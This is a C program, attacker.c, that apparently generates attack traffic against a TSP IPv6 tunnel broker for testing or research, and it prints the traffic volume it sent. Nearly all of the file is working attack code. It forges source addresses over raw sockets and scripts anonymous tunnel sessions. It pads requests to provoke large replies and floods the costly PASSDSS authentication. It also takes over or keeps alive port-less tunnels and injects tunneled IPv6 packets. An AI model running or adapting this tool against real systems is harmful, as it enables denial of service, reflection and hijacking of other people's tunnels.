/* attacker.c - sends what an attacker would that sees nothing of the path: TSP
 * datagrams with sources of its choice. */
/* SPDX-License-Identifier: BSD-2-Clause */
#include "raw4.h"
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define PAYLOAD_MAX 1400
#define FIRST 0xf00000f0u /* number of the first message of a session */
#define COPIES 100 /* empty datagrams that ask for an answer again */
#define X 128 /* octets of a number of the key exchange */

struct attack {
	const char *kind;
	uint32_t from; /* host order */
	int bits; /* of from that are fixed */
	struct sockaddr_in to;
	int fd;
	double pps;
	struct timespec start;
	long sent;
	unsigned long octets; /* with all headers */
	uint32_t seed;
	/* The session in force. */
	uint32_t source;
	uint16_t port;
	int step;
	/* Of the packets of a tunnel. */
	struct in6_addr inner;
};

/* The same sequence in each run. */
static uint32_t random_word(struct attack *attack)
{
	attack->seed = attack->seed * 1664525u + 1013904223u;
	return attack->seed >> 8 ^ attack->seed << 24;
}

/* Until it is time for the next one. */
static void wait_turn(const struct attack *attack)
{
	double s = (double)attack->sent / attack->pps;
	struct timespec at = attack->start;
	long whole = (long)s;

	at.tv_sec += whole;
	at.tv_nsec += (long)((s - (double)whole) * 1e9);
	if (at.tv_nsec >= 1000000000) {
		at.tv_sec++;
		at.tv_nsec -= 1000000000;
	}
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &at, NULL);
}

static double seconds(const struct attack *attack)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)(now.tv_sec - attack->start.tv_sec) +
	       (double)(now.tv_nsec - attack->start.tv_nsec) / 1e9;
}

static struct raw4 ends(const struct attack *attack)
{
	return (struct raw4){ { htonl(attack->source) },
			      attack->to.sin_addr,
			      attack->port,
			      ntohs(attack->to.sin_port) };
}

static void send_packet(struct attack *attack, const uint8_t *packet,
			size_t size)
{
	wait_turn(attack);
	while (sendto(attack->fd, packet, size, 0,
		      (struct sockaddr *)&attack->to, sizeof(attack->to)) < 0)
		if (errno != ENOBUFS && errno != EINTR) {
			perror("send");
			exit(1);
		}
	attack->sent++;
	attack->octets += size;
}

static void send_one(struct attack *attack, uint32_t word, const void *text,
		     size_t len)
{
	const struct raw4 raw4 = ends(attack);
	uint32_t header[2] = { htonl(word), htonl(1) };
	uint8_t payload[sizeof(header) + PAYLOAD_MAX];
	uint8_t packet[RAW4_HEADERS + sizeof(payload)];

	memcpy(payload, header, sizeof(header));
	memcpy(payload + sizeof(header), text, len);
	send_packet(attack, packet,
		    raw4_udp(&raw4, payload, sizeof(header) + len, packet));
}

static void send_text(struct attack *attack, int nth, const char *text)
{
	send_one(attack, FIRST + (uint32_t)nth, text, strlen(text));
}

static void begin(struct attack *attack)
{
	uint32_t host = attack->bits < 32 ? ~0u >> attack->bits : 0;

	attack->source = (attack->from & ~host) | (random_word(attack) & host);
	attack->port = (uint16_t)(1024 + random_word(attack) % 60000);
}

static void version(struct attack *attack)
{
	send_text(attack, 0, "VERSION=2.0.2\r\n");
}

static void create(struct attack *attack, const char *type, bool ours)
{
	char body[400], message[500], at[INET_ADDRSTRLEN] = "10.1.1.1";
	struct in_addr addr = { htonl(attack->source) };

	if (ours)
		inet_ntop(AF_INET, &addr, at, sizeof(at));
	snprintf(body, sizeof(body),
		 "<tunnel action=\"create\" type=\"%s\" proxy=\"no\">\r\n"
		 " <client>\r\n  <address type=\"ipv4\">%s</address>\r\n"
		 "  <keepalive interval=\"30\"><address type=\"ipv6\">::"
		 "</address></keepalive>\r\n </client>\r\n</tunnel>\r\n",
		 type, at);
	snprintf(message, sizeof(message), "Content-length: %zu\r\n%s",
		 strlen(body), body);
	send_text(attack, 2, message);
}

static void login(struct attack *attack, const char *type, bool ours)
{
	version(attack);
	send_text(attack, 1, "AUTHENTICATE ANONYMOUS\r\n");
	create(attack, type, ours);
}

static void accept_it(struct attack *attack)
{
	send_text(attack, 3,
		  "Content-length: 35\r\n"
		  "<tunnel action=\"accept\"></tunnel>\r\n");
}

/* --- kinds ------------------------------------------------------------- */

static void empty(struct attack *attack)
{
	begin(attack);
	send_one(attack, FIRST, "", 0);
}

static void versions(struct attack *attack)
{
	begin(attack);
	version(attack);
}

static void sessions(struct attack *attack)
{
	begin(attack);
	login(attack, "v6udpv4", false);
	accept_it(attack);
}

static void padded_session(struct attack *attack)
{
	char text[600];

	memset(text, ' ', sizeof(text));
	memcpy(text, "VERSION=2.0.2\r\n", 15);
	send_one(attack, FIRST, text, sizeof(text));
	send_text(attack, 1, "AUTHENTICATE ANONYMOUS\r\n");
	create(attack, "v6udpv4", false);
	accept_it(attack);
}

/* As long as the answers, so that nothing but a proof bounds them. */
static void padded(struct attack *attack)
{
	begin(attack);
	padded_session(attack);
}

static void repeats(struct attack *attack)
{
	begin(attack);
	login(attack, "v6udpv4", false);
	for (int i = 0; i < COPIES; i++)
		send_one(attack, FIRST + 2, "", 0);
}

/* A tunnel without ports, where another one may be. */
static void takeover(struct attack *attack)
{
	begin(attack);
	login(attack, "v6v4", true);
	accept_it(attack);
}

static void put_base64(const uint8_t *in, size_t len, char *out)
{
	static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmno"
				     "pqrstuvwxyz0123456789+/";

	for (size_t i = 0; i < len; i += 3) {
		uint32_t word = (uint32_t)in[i] << 16 |
				(i + 1 < len ? in[i + 1] << 8 : 0) |
				(i + 2 < len ? in[i + 2] : 0);

		*out++ = digits[word >> 18];
		*out++ = digits[word >> 12 & 63];
		*out++ = i + 1 < len ? digits[word >> 6 & 63] : '=';
		*out++ = i + 2 < len ? digits[word & 63] : '=';
	}
	*out = 0;
}

/* The mechanism for which the broker must work most. */
static void passdss(struct attack *attack)
{
	uint8_t message[4 + 4 + 3 + 4 + X] = { [7] = 3, 'a', 'n', 'n',
					       0,	0,   0,	  X };
	char text[2 * sizeof(message)];

	for (int i = 0; i < X; i++)
		message[15 + i] = (uint8_t)random_word(attack);
	message[15] = 0x55; /* below the modulus */
	put_base64(message, sizeof(message), text);
	begin(attack);
	version(attack);
	send_text(attack, 1, "AUTHENTICATE PASSDSS-3DES-1\r\n");
	send_text(attack, 2, text);
}

/* The same, with as many octets as the answers have. */
static void passdss_padded(struct attack *attack)
{
	char text[1300];

	begin(attack);
	memset(text, ' ', sizeof(text));
	memcpy(text, "VERSION=2.0.2\r\n", 15);
	send_one(attack, FIRST + 100, text, sizeof(text));
	passdss(attack);
}

/* A packet of the tunnel, which its first address of ours gets and drops. */
static void put_inner(const struct attack *attack, uint8_t packet[40])
{
	memset(packet, 0, 40);
	packet[0] = 0x60;
	packet[6] = 59; /* nothing follows */
	packet[7] = 64;
	memcpy(packet + 8, &attack->inner, 16);
	memcpy(packet + 24, &attack->inner, 8);
	packet[39] = 1;
}

/* One session, again and again from the same place, and its packets, which are
 * guessed: they keep its tunnel. */
static void hold(struct attack *attack)
{
	uint8_t inner[40], packet[RAW4_HEADERS + sizeof(inner)];
	struct raw4 raw4;

	attack->source = attack->from;
	attack->port = 4000;
	if (!attack->step++)
		padded_session(attack);
	raw4 = ends(attack);
	put_inner(attack, inner);
	send_packet(attack, packet,
		    raw4_udp(&raw4, inner, sizeof(inner), packet));
}

/* A packet of a tunnel without ports, to an address that it does not use. */
static void turn(struct attack *attack)
{
	uint8_t inner[40], packet[RAW4_HEADERS + sizeof(inner)];
	struct raw4 raw4;

	attack->source = attack->from;
	raw4 = ends(attack);
	put_inner(attack, inner);
	send_packet(attack, packet,
		    raw4_ip(&raw4, IPPROTO_IPV6, inner, sizeof(inner), packet));
}

static const struct {
	const char *name;
	void (*send)(struct attack *attack);
} kinds[] = {
	{ "empty", empty },	 { "version", versions },
	{ "session", sessions }, { "padded", padded },
	{ "repeat", repeats },	 { "takeover", takeover },
	{ "passdss", passdss },	 { "passdss-padded", passdss_padded },
	{ "hold", hold },	 { "turn", turn },
};

#define KINDS (sizeof(kinds) / sizeof(kinds[0]))

static bool read_from(char *text, struct attack *attack)
{
	char *slash = strchr(text, '/');
	struct in_addr addr;

	attack->bits = 32;
	if (slash) {
		*slash = 0;
		attack->bits = atoi(slash + 1);
	}
	if (inet_pton(AF_INET, text, &addr) != 1 || attack->bits < 1)
		return false;
	attack->from = ntohl(addr.s_addr);
	return true;
}

static bool read_to(char *text, struct attack *attack)
{
	char *colon = strchr(text, ':');

	if (!colon)
		return false;
	*colon = 0;
	attack->to.sin_family = AF_INET;
	attack->to.sin_port = htons((uint16_t)atoi(colon + 1));
	return inet_pton(AF_INET, text, &attack->to.sin_addr) == 1;
}

int main(int argc, char **argv)
{
	struct attack attack = { .seed = 20 };
	size_t kind = 0;

	if (argc == 7 && inet_pton(AF_INET6, argv[6], &attack.inner) == 1)
		argc--;
	while (argc == 6 && kind < KINDS &&
	       strcmp(kinds[kind].name, argv[1]) != 0)
		kind++;
	if (argc != 6 || kind == KINDS || !read_from(argv[2], &attack) ||
	    !read_to(argv[3], &attack)) {
		fputs("usage: attacker KIND FROM[/BITS] TO:PORT PPS SECONDS "
		      "[INNER]\n"
		      "KIND:",
		      stderr);
		for (size_t i = 0; i < KINDS; i++)
			fprintf(stderr, " %s", kinds[i].name);
		fputs("\nPrints the octets and the datagrams that were sent.\n",
		      stderr);
		return 2;
	}
	/* Of another kind: nobody says what was said a moment before. */
	attack.seed += (uint32_t)kind * 7919;
	attack.pps = atof(argv[4]);
	attack.fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (attack.fd < 0) {
		perror("raw socket");
		return 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &attack.start);
	do {
		kinds[kind].send(&attack);
	} while (seconds(&attack) < atof(argv[5]));
	printf("%lu %ld\n", attack.octets, attack.sent);
	return 0;
}
